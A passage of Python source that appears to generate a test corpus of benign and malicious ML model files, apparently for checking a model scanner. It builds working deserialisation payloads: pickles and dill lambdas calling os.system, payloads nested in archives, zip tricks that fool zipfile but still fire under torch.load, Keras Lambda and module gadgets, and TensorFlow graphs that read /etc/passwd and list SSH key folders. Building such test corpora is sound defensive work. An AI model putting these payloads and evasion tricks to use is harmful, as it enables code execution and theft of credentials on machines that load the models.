    lam = eval(compile(f"lambda: __import__('os').system({m.cmd!r})", "<corpus-lambda>", "eval"), {})

    class CallLambda:
        def __reduce__(self) -> tuple[Any, ...]:
            return (lam, ())

    CallLambda.__module__ = MODELS_MODULE
    W(
        "dill/lambda-by-value.pkl",
        dill.dumps(CallLambda(), recurse=True),
        "dill",
        "dill",
        "dill serialises a lambda by value (code object) and REDUCE calls it at load",
        "marshal-code",
    )
    for p in ctx.pick(fireable(2, 4), 2, 4):
        W(
            f"dill/{p.key}.dill",
            payload_pickle(p, pp(p, 2), m),
            "dill",
            "dill",
            f"hand-built payload saved with a .dill extension: {p.description}",
            p.family,
        )

    # 11. archive nesting -------------------------------------------------------------------------------
    evil_zip = INNER["torch_zip"]
    evil_pkl = payload_pickle(canonical, 2, m)
    nest: list[tuple[str, str, Callable[[], bytes], str]] = [
        (
            "tar/model.tar",
            "tar",
            lambda: tar_bytes(
                [("model/pytorch_model.bin", evil_zip), ("model/config.json", b'{"arch": "mlp"}')]
            ),
            "tar holding a malicious torch zip",
        ),
        (
            "tar/model.tar.gz",
            "tar.gz",
            lambda: gzip_bytes(tar_bytes([("ckpt/model.pt", evil_zip)])),
            "tar.gz holding a malicious torch zip",
        ),
        (
            "tar/model.tar.bz2",
            "tar.bz2",
            lambda: bz2.compress(tar_bytes([("model.pkl", evil_pkl)])),
            "tar.bz2 holding a payload pickle",
        ),
        (
            "tar/model.tar.xz",
            "tar.xz",
            lambda: lzma.compress(tar_bytes([("weights/model.pkl", evil_pkl)])),
            "tar.xz holding a payload pickle",
        ),
        (
            "zip/zip-in-zip.zip",
            "zip",
            lambda: zip_bytes([("inner.zip", zip_bytes([("model.pkl", evil_pkl)]))]),
            "zip inside a zip holding a payload pickle",
        ),
        (
            "zip/zip-in-zip-in-zip.zip",
            "zip",
            lambda: zip_bytes(
                [("a.zip", zip_bytes([("b.zip", zip_bytes([("pytorch_model.bin", evil_zip)]))]))],
                compress=True,
            ),
            "three-level zip nesting around a torch zip",
        ),
        (
            "zip/tar-gz-in-zip.zip",
            "zip",
            lambda: zip_bytes([("release/model.tar.gz", gzip_bytes(tar_bytes([("model.pt", evil_zip)])))]),
            "zip > tar.gz > malicious torch zip",
        ),
        (
            "zip/gz-pickle-in-zip.zip",
            "zip",
            lambda: zip_bytes([("model.pkl.gz", gzip_bytes(evil_pkl))]),
            "zip > gzip > payload pickle",
        ),
        ("gz/model.pkl.gz", "gzip", lambda: gzip_bytes(evil_pkl), "gzip-compressed payload pickle"),
        ("bz2/model.pkl.bz2", "bz2", lambda: bz2.compress(evil_pkl), "bz2-compressed payload pickle"),
        (
            "zip/hf-repo-snapshot.zip",
            "zip",
            lambda: zip_bytes(
                [
                    ("repo/config.json", b'{"model_type": "bert"}'),
                    ("repo/README.md", b"# model\n"),
                    ("repo/pytorch_model.bin", evil_zip),
                ],
                compress=True,
            ),
            "zipped model-repo snapshot with a bad .bin",
        ),
    ]
    for rel, fmt, fn, desc in ctx.pick(nest, 6):
        W(f"archive/{rel}", fn(), "archive-nesting", fmt, desc, "os-system")
    W(
        "archive/7z/model.7z",
        sevenz_bytes(
            [("model/pytorch_model.bin", evil_zip), ("model/model.pkl", evil_pkl)], ctx.root / ".tmp.7z"
        ),
        "archive-nesting",
        "7z",
        "7z archive holding a malicious torch zip and payload pickle",
        "os-system",
    )

    # 12. zip tricks ------------------------------------------------------------------------------------
    for i, p in enumerate(ctx.pick(fireable(2, 5), 3, 8)):
        good = torch_zip_replace(base_zip, replace={"data.pkl": inj(p)})
        W(
            f"zip-tricks/crc-{p.key}.pt",
            patch_zip_crc(good, "archive/data.pkl"),
            "zip-crc-mismatch",
            "torch-zip",
            f"torch zip whose data.pkl CRC-32 is wrong in both headers: {p.description}",
            p.family,
        )
        # A decoy member (never read by torch.load) sits between 'version' and data.pkl with its
        # local-header magic overwritten: zipfile-based readers fail on it, torch.load fires the payload.
        new_magic = [b"\x00\x00\x00\x00", b"PK\x05\x06", b"MZ\x90\x00"][i % 3]
        members = zip_members(good)
        first = [x for x in members if x[0] == "archive/version"]
        rest = [x for x in members if x[0] != "archive/version"]
        decoyed = zip_bytes([*first, ("archive/extra/notes.txt", b"release notes\n"), *rest])
        W(
            f"zip-tricks/magic-{p.key}.pt",
            overwrite_local_magic(decoyed, "archive/extra/notes.txt", new_magic),
            "zip-magic-overwritten",
            "torch-zip",
            f"decoy member's local-header magic overwritten with {new_magic!r}, central directory intact "
            f"(zipfile raises, torch.load still fires): {p.description}",
            p.family,
        )
        renamed = bytearray(good)
        at = renamed.find(b"archive/data.pkl")
        renamed[at : at + 16] = b"archive/data.txt"  # first occurrence is the local header
        W(
            f"zip-tricks/local-name-{p.key}.pt",
            bytes(renamed),
            "zip-local-name-mismatch",
            "torch-zip",
            "data.pkl local-header file name differs from the central directory ('data.txt'); zipfile "
            f"raises, torch.load fires: {p.description}",
            p.family,
        )
    dup = zip_bytes(
        [(n, d) for n, d in zip_members(base_zip)] + [("archive/data.pkl", payload_pickle(canonical, 2, m))]
    )
    W(
        "zip-tricks/duplicate-data-pkl.pt",
        dup,
        "zip-duplicate-names",
        "torch-zip",
        "two archive/data.pkl members: first benign (torch.load reads it), last malicious (zipfile reads it)",
        "os-system",
    )
    dup2 = zip_bytes([("archive/data.pkl", payload_pickle(canonical, 2, m)), *list(zip_members(base_zip))])
    W(
        "zip-tricks/duplicate-data-pkl-first.pt",
        dup2,
        "zip-duplicate-names",
        "torch-zip",
        "two archive/data.pkl members: first malicious, last benign",
        "os-system",
    )
    W(
        "zip-tricks/prepended-junk.pt",
        ctx.rng.randbytes(777) + INNER["torch_zip"],
        "zip-prepended-data",
        "torch-zip",
        "777 junk bytes before a malicious torch zip (zipfile copes, torch.load does not)",
        "os-system",
    )
    W(
        "zip-tricks/comment-pickle.zip",
        zip_bytes([("readme.txt", b"hi")], comment=evil_pkl),
        "zip-comment-payload",
        "zip",
        "payload pickle stored in the zip end-of-central-directory comment",
        "os-system",
    )

    gen_keras_malicious(ctx, m)
    gen_savedmodel(ctx, m, malicious=True)
    gen_onnx_malicious(ctx)
    gen_gguf(ctx, m, malicious=True)


# ---------------------------------------------------------------------------------------------------------
# Keras
# ---------------------------------------------------------------------------------------------------------


def _k3_dtype() -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "DTypePolicy",
        "config": {"name": "float32"},
        "registered_name": None,
    }


def _k3_init(name: str, cfg: dict[str, Any] | None = None) -> dict[str, Any]:
    return {"module": "keras.initializers", "class_name": name, "config": cfg or {}, "registered_name": None}


def _k3_layer(cls: str, name: str, cfg: dict[str, Any], in_shape: list[Any] | None = None) -> dict[str, Any]:
    base = {"name": name, "trainable": True, "dtype": _k3_dtype()}
    base.update(cfg)
    layer: dict[str, Any] = {
        "module": "keras.layers",
        "class_name": cls,
        "config": base,
        "registered_name": None,
    }
    if in_shape is not None:
        layer["build_config"] = {"input_shape": in_shape}
    return layer


def _k3_dense(name: str, units: int, act: str, in_dim: int) -> dict[str, Any]:
    return _k3_layer(
        "Dense",
        name,
        {
            "units": units,
            "activation": act,
            "use_bias": True,
            "kernel_initializer": _k3_init("GlorotUniform", {"seed": None}),
            "bias_initializer": _k3_init("Zeros"),
            "kernel_regularizer": None,
            "bias_regularizer": None,
            "kernel_constraint": None,
            "bias_constraint": None,
        },
        [None, in_dim],
    )


def _k3_sequential(layers: list[dict[str, Any]], in_dim: int, name: str = "sequential") -> dict[str, Any]:
    inp = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, in_dim], "dtype": "float32", "sparse": False, "name": "input_layer"},
        "registered_name": None,
    }
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": name,
            "trainable": True,
            "dtype": _k3_dtype(),
            "layers": [inp, *layers],
            "build_input_shape": [None, in_dim],
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, in_dim]},
        "compile_config": {
            "optimizer": {
                "module": "keras.optimizers",
                "class_name": "Adam",
                "config": {"name": "adam", "learning_rate": 0.001},
                "registered_name": None,
            },
            "loss": "sparse_categorical_crossentropy",
            "metrics": ["accuracy"],
            "loss_weights": None,
            "weighted_metrics": None,
            "run_eagerly": False,
            "steps_per_execution": 1,
            "jit_compile": False,
        },
    }


def _h5_bytes(build: Callable[[Any], None], tmp: Path) -> bytes:
    import h5py

    tmp.parent.mkdir(parents=True, exist_ok=True)
    with h5py.File(tmp, "w") as f:
        build(f)
    data = tmp.read_bytes()
    tmp.unlink()
    return data


def _k3_weights(ctx: Ctx, shapes: dict[str, list[tuple[int, ...]]]) -> bytes:
    import numpy as np

    rs = np.random.default_rng(ctx.seed + len(shapes))

    def build(f: Any) -> None:
        layers = f.create_group("layers")
        for lname, vs in shapes.items():
            g = layers.create_group(lname).create_group("vars")
            for i, shp in enumerate(vs):
                g.create_dataset(str(i), data=rs.standard_normal(shp).astype(np.float32), track_times=False)
        f.create_group("optimizer").create_group("vars")
        f.create_group("vars")

    return _h5_bytes(build, ctx.root / ".tmp.weights.h5")


def _keras_zip(ctx: Ctx, config: dict[str, Any], shapes: dict[str, list[tuple[int, ...]]]) -> bytes:
    meta = {"keras_version": "3.6.0", "date_saved": "2024-11-05@14:02:31"}
    return zip_bytes(
        [
            ("metadata.json", json.dumps(meta).encode()),
            ("config.json", json.dumps(config).encode()),
            ("model.weights.h5", _k3_weights(ctx, shapes)),
        ]
    )


def _lambda_code_b64(src: str) -> str:
    code = compile(src, "<keras-lambda>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode() + "\n"


def _k2_model_config(layers: list[dict[str, Any]], in_dim: int) -> dict[str, Any]:
    inp = {
        "class_name": "InputLayer",
        "config": {
            "batch_input_shape": [None, in_dim],
            "dtype": "float32",
            "sparse": False,
            "ragged": False,
            "name": "input_1",
        },
    }
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [inp, *layers]}}


def _k2_dense(name: str, units: int, act: str) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "registered_name": None,
        "config": {
            "name": name,
            "trainable": True,
            "dtype": "float32",
            "units": units,
            "activation": act,
            "use_bias": True,
            "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
            "bias_initializer": {"class_name": "Zeros", "config": {}},
            "kernel_regularizer": None,
            "bias_regularizer": None,
            "activity_regularizer": None,
            "kernel_constraint": None,
            "bias_constraint": None,
        },
    }


def _k2_h5(ctx: Ctx, config: dict[str, Any], weights: dict[str, list[tuple[int, ...]]]) -> bytes:
    import numpy as np

    rs = np.random.default_rng(ctx.seed + 7)

    def build(f: Any) -> None:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["training_config"] = json.dumps(
            {
                "loss": "mse",
                "metrics": None,
                "optimizer_config": {
                    "class_name": "Adam",
                    "config": {"name": "Adam", "learning_rate": 0.001},
                },
            }
        )
        mw = f.create_group("model_weights")
        mw.attrs["layer_names"] = np.array([n.encode() for n in weights])
        mw.attrs["backend"] = "tensorflow"
        mw.attrs["keras_version"] = "2.15.0"
        for lname, shapes in weights.items():
            g = mw.create_group(lname)
            names = [f"{lname}/kernel:0", f"{lname}/bias:0"][: len(shapes)]
            g.attrs["weight_names"] = np.array([n.encode() for n in names])
            for n, shp in zip(names, shapes, strict=True):
                g.create_dataset(n, data=rs.standard_normal(shp).astype(np.float32), track_times=False)

    return _h5_bytes(build, ctx.root / ".tmp.k2.h5")


def gen_keras_malicious(ctx: Ctx, m: Marker) -> None:
    lambdas = [
        ("system", f"lambda x: __import__('os').system({m.cmd!r}) or x", "os-system"),
        ("exec", f"lambda x: exec({m.pysrc!r}) or x", "builtins-eval-exec"),
        ("subprocess", f"lambda x: __import__('subprocess').call({m.argv!r}) or x", "subprocess"),
        ("open", f"lambda x: open({m.path!r}, 'w') and x", "file-write"),
    ]
    shapes = {"dense": [(8, 16), (16,)], "dense_1": [(16, 4), (4,)]}
    for i, (key, src, tech) in enumerate(ctx.pick(lambdas, 2)):
        lam_layer = _k3_layer(
            "Lambda",
            "lambda",
            {
                "function": {
                    "class_name": "__lambda__",
                    "config": {"code": _lambda_code_b64(src), "defaults": None, "closure": None},
                },
                "arguments": {},
                "output_shape": None,
                "mask": None,
            },
            [None, 16],
        )
        cfg = _k3_sequential(
            [_k3_dense("dense", 16, "relu", 8), lam_layer, _k3_dense("dense_1", 4, "softmax", 16)], 8
        )
        ctx.write(
            "malicious",
            f"keras/lambda-{key}.keras",
            _keras_zip(ctx, cfg, shapes),
            "keras-lambda",
            "keras-v3",
            f"Keras 3 .keras zip; config.json has a Lambda layer whose marshalled code runs {tech}",
            technique=tech,
        )
        k2 = _k2_model_config(
            [
                _k2_dense("dense", 16, "relu"),
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "lambda",
                        "trainable": True,
                        "dtype": "float32",
                        "function": [_lambda_code_b64(src), None, None],
                        "function_type": "lambda",
                        "module": "__main__",
                        "output_shape": None,
                        "output_shape_type": "raw",
                        "output_shape_module": None,
                        "arguments": {},
                    },
                },
            ],
            8,
        )
        ctx.write(
            "malicious",
            f"keras/lambda-{key}-{i}.h5",
            _k2_h5(ctx, k2, {"dense": [(8, 16), (16,)]}),
            "keras-lambda",
            "keras-h5",
            f"legacy Keras HDF5; model_config has a Lambda layer running {tech}",
            technique=tech,
        )
    modules = [
        ("os", "system", {"command": m.cmd}, "os module referenced as a layer class"),
        ("subprocess", "Popen", {"args": m.argv}, "subprocess.Popen referenced as a layer class"),
        ("builtins", "exec", {"source": m.pysrc}, "builtins.exec referenced as a layer class"),
        (
            "keras.config",
            "enable_unsafe_deserialization",
            {},
            "CVE-2025-1550 style: config disables safe_mode",
        ),
        (
            "keras.utils",
            "get_file",
            {"origin": "http://127.0.0.1:9/payload.py", "fname": "/tmp/payload.py"},
            "keras.utils.get_file fetch gadget (arbitrary download)",
        ),
        ("importlib", "import_module", {"name": "os"}, "importlib.import_module as a layer class"),
    ]
    for key_mod, cls, cfg, desc in ctx.pick(modules, 3):
        evil = {"module": key_mod, "class_name": cls, "config": cfg, "registered_name": None}
        cfg3 = _k3_sequential(
            [_k3_dense("dense", 16, "relu", 8), evil, _k3_dense("dense_1", 4, "softmax", 16)], 8
        )
        ctx.write(
            "malicious",
            f"keras/module-{key_mod}-{cls}.keras",
            _keras_zip(ctx, cfg3, shapes),
            "keras-module",
            "keras-v3",
            f"Keras 3 config.json layer with module={key_mod!r} class_name={cls!r}: {desc}",
            technique="keras-module",
        )
        k2 = _k2_model_config([_k2_dense("dense", 16, "relu"), evil], 8)
        ctx.write(
            "malicious",
            f"keras/module-{key_mod}-{cls}.h5",
            _k2_h5(ctx, k2, {"dense": [(8, 16), (16,)]}),
            "keras-module",
            "keras-h5",
            f"HDF5 model_config layer with module={key_mod!r} class_name={cls!r}: {desc}",
            technique="keras-module",
        )


def gen_keras_benign(ctx: Ctx) -> None:
    mlp = _k3_sequential(
        [
            _k3_dense("dense", 64, "relu", 20),
            _k3_layer("Dropout", "dropout", {"rate": 0.2, "seed": None, "noise_shape": None}, [None, 64]),
            _k3_dense("dense_1", 3, "softmax", 64),
        ],
        20,
    )
    ctx.write(
        "benign",
        "keras/mlp.keras",
        _keras_zip(ctx, mlp, {"dense": [(20, 64), (64,)], "dense_1": [(64, 3), (3,)]}),
        "keras",
        "keras-v3",
        "Keras 3 Sequential MLP (Dense/Dropout) with model.weights.h5",
    )
    conv = _k3_layer(
        "Conv2D",
        "conv2d",
        {
            "filters": 8,
            "kernel_size": [3, 3],
            "strides": [1, 1],
            "padding": "same",
            "data_format": "channels_last",
            "dilation_rate": [1, 1],
            "groups": 1,
            "activation": "relu",
            "use_bias": True,
            "kernel_initializer": _k3_init("GlorotUniform", {"seed": None}),
            "bias_initializer": _k3_init("Zeros"),
            "kernel_regularizer": None,
            "bias_regularizer": None,
            "activity_regularizer": None,
            "kernel_constraint": None,
            "bias_constraint": None,
        },
        [None, 28, 28, 1],
    )
    pool = _k3_layer(
        "MaxPooling2D",
        "max_pooling2d",
        {"pool_size": [2, 2], "padding": "valid", "strides": [2, 2], "data_format": "channels_last"},
        [None, 28, 28, 8],
    )
    flat = _k3_layer("Flatten", "flatten", {"data_format": "channels_last"}, [None, 14, 14, 8])
    cnn = _k3_sequential([conv, pool, flat, _k3_dense("dense", 10, "softmax", 1568)], 784, "cnn")
    cnn["config"]["layers"][0]["config"]["batch_shape"] = [None, 28, 28, 1]
    ctx.write(
        "benign",
        "keras/cnn.keras",
        _keras_zip(ctx, cnn, {"conv2d": [(3, 3, 1, 8), (8,)], "dense": [(1568, 10), (10,)]}),
        "keras",
        "keras-v3",
        "Keras 3 CNN (Conv2D/MaxPooling2D/Flatten/Dense)",
    )
    bn = _k3_layer(
        "BatchNormalization",
        "batch_normalization",
        {
            "axis": -1,
            "momentum": 0.99,
            "epsilon": 0.001,
            "center": True,
            "scale": True,
            "beta_initializer": _k3_init("Zeros"),
            "gamma_initializer": _k3_init("Ones"),
            "moving_mean_initializer": _k3_init("Zeros"),
            "moving_variance_initializer": _k3_init("Ones"),
            "beta_regularizer": None,
            "gamma_regularizer": None,
            "beta_constraint": None,
            "gamma_constraint": None,
            "synchronized": False,
        },
        [None, 32],
    )
    bnm = _k3_sequential(
        [_k3_dense("dense", 32, "gelu", 12), bn, _k3_dense("dense_1", 1, "sigmoid", 32)], 12, "bn"
    )
    ctx.write(
        "benign",
        "keras/batchnorm.keras",
        _keras_zip(
            ctx,
            bnm,
            {
                "dense": [(12, 32), (32,)],
                "batch_normalization": [(32,), (32,), (32,), (32,)],
                "dense_1": [(32, 1), (1,)],
            },
        ),
        "keras",
        "keras-v3",
        "Keras 3 Dense+BatchNormalization binary classifier",
    )
    k2 = _k2_model_config([_k2_dense("dense", 16, "relu"), _k2_dense("dense_1", 2, "softmax")], 6)
    ctx.write(
        "benign",
        "keras/mlp-legacy.h5",
        _k2_h5(ctx, k2, {"dense": [(6, 16), (16,)], "dense_1": [(16, 2), (2,)]}),
        "keras",
        "keras-h5",
        "tf.keras 2.x HDF5 Sequential with model_config/training_config attrs",
    )
    if ctx.full:
        k2b = _k2_model_config(
            [
                _k2_dense("dense", 8, "tanh"),
                {
                    "class_name": "Dropout",
                    "config": {
                        "name": "dropout",
                        "trainable": True,
                        "dtype": "float32",
                        "rate": 0.5,
                        "noise_shape": None,
                        "seed": None,
                    },
                },
                _k2_dense("dense_1", 1, "linear"),
            ],
            4,
        )
        ctx.write(
            "benign",
            "keras/regressor-legacy.h5",
            _k2_h5(ctx, k2b, {"dense": [(4, 8), (8,)], "dense_1": [(8, 1), (1,)]}),
            "keras",
            "keras-h5",
            "tf.keras 2.x HDF5 regressor with Dropout",
        )


# ---------------------------------------------------------------------------------------------------------
# TensorFlow SavedModel (protobuf written by hand)
# ---------------------------------------------------------------------------------------------------------


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_int(field_no: int, n: int) -> bytes:
    return _varint(field_no << 3) + _varint(n)


def pb_bytes(field_no: int, data: bytes | str) -> bytes:
    raw = data.encode() if isinstance(data, str) else data
    return _varint(field_no << 3 | 2) + _varint(len(raw)) + raw


DT_FLOAT, DT_INT32, DT_STRING, DT_RESOURCE = 1, 3, 7, 20


def _attr(key: str, value: bytes) -> bytes:
    return pb_bytes(5, pb_bytes(1, key) + pb_bytes(2, value))


def _attr_type(t: int) -> bytes:
    return pb_int(6, t)


def _attr_s(s: str) -> bytes:
    return pb_bytes(2, s)


def _attr_types(ts: Sequence[int]) -> bytes:
    return pb_bytes(1, b"".join(pb_int(6, t) for t in ts))


def _attr_str_tensor(values: Sequence[str]) -> bytes:
    tensor = pb_int(1, DT_STRING) + pb_bytes(2, b"") + b"".join(pb_bytes(8, v) for v in values)
    return pb_bytes(8, tensor)


def _attr_shape(dims: Sequence[int]) -> bytes:
    return pb_bytes(7, b"".join(pb_bytes(2, pb_int(1, d & 0xFFFFFFFFFFFFFFFF)) for d in dims))


def node(name: str, op: str, inputs: Sequence[str] = (), attrs: Sequence[tuple[str, bytes]] = ()) -> bytes:
    body = pb_bytes(1, name) + pb_bytes(2, op) + b"".join(pb_bytes(3, i) for i in inputs)
    body += b"".join(_attr(k, v) for k, v in attrs)
    return body


def const_str(name: str, value: str) -> bytes:
    return node(name, "Const", attrs=[("dtype", _attr_type(DT_STRING)), ("value", _attr_str_tensor([value]))])


def saved_model_pb(
    nodes: Sequence[bytes], functions: Sequence[tuple[str, Sequence[bytes]]] = (), out: str = "Identity:0"
) -> bytes:
    lib = b"".join(
        pb_bytes(1, pb_bytes(1, pb_bytes(1, fname)) + b"".join(pb_bytes(3, n) for n in fnodes))
        for fname, fnodes in functions
    )
    graph = b"".join(pb_bytes(1, n) for n in nodes) + (pb_bytes(2, lib) if lib else b"")
    graph += pb_bytes(4, pb_int(1, 1645))
    meta_info = pb_bytes(4, "serve") + pb_bytes(5, "2.15.0") + pb_bytes(6, "v2.15.0-2-g0b15fdfcb3f")
    tinfo_in = pb_bytes(1, "serving_default_x:0") + pb_int(2, DT_FLOAT)
    tinfo_out = pb_bytes(1, out) + pb_int(2, DT_FLOAT)
    sig = (
        pb_bytes(1, pb_bytes(1, "x") + pb_bytes(2, tinfo_in))
        + pb_bytes(2, pb_bytes(1, "output_0") + pb_bytes(2, tinfo_out))
        + pb_bytes(3, "tensorflow/serving/predict")
    )
    meta_graph = (
        pb_bytes(1, meta_info)
        + pb_bytes(2, graph)
        + pb_bytes(5, pb_bytes(1, "serving_default") + pb_bytes(2, sig))
    )
    return pb_int(1, 1) + pb_bytes(2, meta_graph)


def _benign_graph() -> list[bytes]:
    f32 = ("dtype", _attr_type(DT_FLOAT))
    return [
        node("serving_default_x", "Placeholder", attrs=[f32, ("shape", _attr_shape([-1, 8]))]),
        node(
            "dense/kernel",
            "VarHandleOp",
            attrs=[f32, ("shape", _attr_shape([8, 4])), ("shared_name", _attr_s("dense/kernel"))],
        ),
        node("dense/MatMul/ReadVariableOp", "ReadVariableOp", ["dense/kernel"], [f32]),
        node(
            "dense/MatMul",
            "MatMul",
            ["serving_default_x", "dense/MatMul/ReadVariableOp"],
            [("T", _attr_type(1))],
        ),
        node("dense/Relu", "Relu", ["dense/MatMul"], [("T", _attr_type(1))]),
        node("Identity", "Identity", ["dense/Relu"], [("T", _attr_type(1))]),
        node(
            "saver_filename",
            "Placeholder",
            attrs=[("dtype", _attr_type(DT_STRING)), ("shape", _attr_shape([]))],
        ),
        const_str("SaveV2/tensor_names", "dense/kernel/.ATTRIBUTES/VARIABLE_VALUE"),
        const_str("SaveV2/shape_and_slices", ""),
        node(
            "SaveV2",
            "SaveV2",
            [
                "saver_filename",
                "SaveV2/tensor_names",
                "SaveV2/shape_and_slices",
                "dense/MatMul/ReadVariableOp",
            ],
            [("dtypes", _attr_types([DT_FLOAT]))],
        ),
        node(
            "RestoreV2",
            "RestoreV2",
            ["saver_filename", "SaveV2/tensor_names", "SaveV2/shape_and_slices"],
            [("dtypes", _attr_types([DT_FLOAT]))],
        ),
    ]


def gen_savedmodel(ctx: Ctx, m: Marker, *, malicious: bool) -> None:
    def write(label: str, name: str, data: bytes, family: str, desc: str, **extra: str) -> None:
        ctx.write(label, f"savedmodel/{name}/saved_model.pb", data, family, "tf-savedmodel", desc, **extra)
        (ctx.root / label / "savedmodel" / name / "variables").mkdir(exist_ok=True)

    if not malicious:
        write(
            "benign",
            "dense",
            saved_model_pb(_benign_graph()),
            "savedmodel",
            "SavedModel graph: Placeholder/VarHandleOp/MatMul/Relu plus the usual SaveV2/RestoreV2 saver ops",
        )
        fn_nodes = [node("mul", "Mul", ["x", "y"], [("T", _attr_type(1))])]
        write(
            "benign",
            "with-function",
            saved_model_pb(_benign_graph(), [("__inference_call_42", fn_nodes)]),
            "savedmodel",
            "SavedModel with a tf.function library entry (Mul)",
        )
        return
    f32 = ("dtype", _attr_type(DT_FLOAT))
    x = node("serving_default_x", "Placeholder", attrs=[f32, ("shape", _attr_shape([-1, 8]))])
    pyfunc = [("Tin", _attr_types([DT_FLOAT])), ("Tout", _attr_types([DT_FLOAT]))]
    cases: list[tuple[str, str, list[bytes], list[tuple[str, list[bytes]]], str]] = [
        (
            "pyfunc",
            "savedmodel-pyfunc",
            [
                x,
                node("PyFunc", "PyFunc", ["serving_default_x"], [("token", _attr_s("pyfunc_0")), *pyfunc]),
                node("Identity", "Identity", ["PyFunc"]),
            ],
            [],
            "graph node op=PyFunc (tf.py_func: calls a registered Python function)",
        ),
        (
            "eager-pyfunc",
            "savedmodel-pyfunc",
            [
                x,
                node(
                    "EagerPyFunc",
                    "EagerPyFunc",
                    ["serving_default_x"],
                    [("token", _attr_s("pyfunc_1")), *pyfunc],
                ),
                node("Identity", "Identity", ["EagerPyFunc"]),
            ],
            [],
            "graph node op=EagerPyFunc",
        ),
        (
            "pyfunc-in-function",
            "savedmodel-pyfunc",
            [*_benign_graph()],
            [
                (
                    "__inference_call_7",
                    [
                        node(
                            "PyFuncStateless",
                            "PyFuncStateless",
                            ["x"],
                            [("token", _attr_s("pyfunc_2")), *pyfunc],
                        )
                    ],
                )
            ],
            "PyFuncStateless hidden in the function library, not the top-level graph",
        ),
        (
            "read-file",
            "savedmodel-file-io",
            [
                x,
                const_str("path", "/etc/passwd"),
                node("ReadFile", "ReadFile", ["path"]),
                node("Identity", "Identity", ["ReadFile"]),
            ],
            [],
            "ReadFile('/etc/passwd') returned through the serving signature",
        ),
        (
            "write-file",
            "savedmodel-file-io",
            [
                x,
                const_str("path", m.path),
                const_str("contents", "pwned"),
                node("WriteFile", "WriteFile", ["path", "contents"]),
                node("Identity", "Identity", ["serving_default_x", "^WriteFile"]),
            ],
            [],
            "WriteFile(marker) run via a control dependency of the output",
        ),
        (
            "exfil",
            "savedmodel-file-io",
            [
                x,
                const_str("path", "/etc/hostname"),
                node("ReadFile", "ReadFile", ["path"]),
                const_str("dst", m.path),
                node("WriteFile", "WriteFile", ["dst", "ReadFile"]),
                node("Identity", "Identity", ["serving_default_x", "^WriteFile"]),
            ],
            [],
            "ReadFile + WriteFile copying a host file to the marker path",
        ),
        (
            "matching-files",
            "savedmodel-file-io",
            [
                x,
                const_str("pattern", "/home/*/.ssh/*"),
                node("MatchingFiles", "MatchingFiles", ["pattern"]),
                node("Identity", "Identity", ["MatchingFiles"]),
            ],
            [],
            "MatchingFiles('/home/*/.ssh/*') directory listing",
        ),
        (
            "immutable-const",
            "savedmodel-file-io",
            [
                x,
                node(
                    "ImmutableConst",
                    "ImmutableConst",
                    attrs=[f32, ("shape", _attr_shape([4])), ("memory_region_name", _attr_s("/etc/passwd"))],
                ),
                node("Identity", "Identity", ["ImmutableConst"]),
            ],
            [],
            "ImmutableConst memory-mapping /etc/passwd",
        ),
        (
            "write-in-function",
            "savedmodel-file-io",
            [*_benign_graph()],
            [
                (
                    "__inference_signature_wrapper_9",
                    [const_str("p", m.path), const_str("c", "x"), node("WriteFile", "WriteFile", ["p", "c"])],
                )
            ],
            "WriteFile inside a library function",
        ),
    ]
    for name, family, nodes, funcs, desc in ctx.pick(cases, 5):
        tech = "tf-pyfunc" if family == "savedmodel-pyfunc" else "tf-file-io"
        write("malicious", name, saved_model_pb(nodes, funcs), family, f"SavedModel: {desc}", technique=tech)


# ---------------------------------------------------------------------------------------------------------
# ONNX
# ---------------------------------------------------------------------------------------------------------


def _onnx_mlp(rs: Any, d_in: int = 16, hidden: int = 32, d_out: int = 4, name: str = "mlp") -> Any:
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    inits = [
        numpy_helper.from_array(rs.standard_normal(s).astype(np.float32), n)
        for n, s in (
            ("fc1.weight", (hidden, d_in)),
            ("fc1.bias", (hidden,)),
            ("fc2.weight", (d_out, hidden)),
            ("fc2.bias", (d_out,)),
        )
    ]
    nodes = [
        helper.make_node("Gemm", ["input", "fc1.weight", "fc1.bias"], ["h"], name="/fc1/Gemm", transB=1),
        helper.make_node("Relu", ["h"], ["h_relu"], name="/relu/Relu"),
        helper.make_node(
            "Gemm", ["h_relu", "fc2.weight", "fc2.bias"], ["output"], name="/fc2/Gemm", transB=1
        ),
    ]
    graph = helper.make_graph(
        nodes,
        name,
        [helper.make_tensor_value_info("input", TensorProto.FLOAT, ["batch", d_in])],
        [helper.make_tensor_value_info("output", TensorProto.FLOAT, ["batch", d_out])],
        inits,
    )
    model = helper.make_model(
        graph, opset_imports=[helper.make_opsetid("", 17)], producer_name="pytorch", producer_version="2.13.0"
    )
    model.ir_version = 8
    return model


def _onnx_cnn(rs: Any) -> Any:
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    inits = [
        numpy_helper.from_array(rs.standard_normal(s).astype(np.float32), n)
        for n, s in (
            ("conv.weight", (8, 3, 3, 3)),
            ("conv.bias", (8,)),
            ("fc.weight", (10, 8)),
            ("fc.bias", (10,)),
        )
    ]
    nodes = [
        helper.make_node("Conv", ["input", "conv.weight", "conv.bias"], ["c"], pads=[1, 1, 1, 1]),
        helper.make_node("Relu", ["c"], ["r"]),
        helper.make_node("GlobalAveragePool", ["r"], ["p"]),
        helper.make_node("Flatten", ["p"], ["f"]),
        helper.make_node("Gemm", ["f", "fc.weight", "fc.bias"], ["output"], transB=1),
    ]
    graph = helper.make_graph(
        nodes,
        "cnn",
        [helper.make_tensor_value_info("input", TensorProto.FLOAT, ["N", 3, 32, 32])],
        [helper.make_tensor_value_info("output", TensorProto.FLOAT, ["N", 10])],
        inits,
    )
    model = helper.make_model(
        graph, opset_imports=[helper.make_opsetid("", 17)], producer_name="pytorch", producer_version="2.13.0"
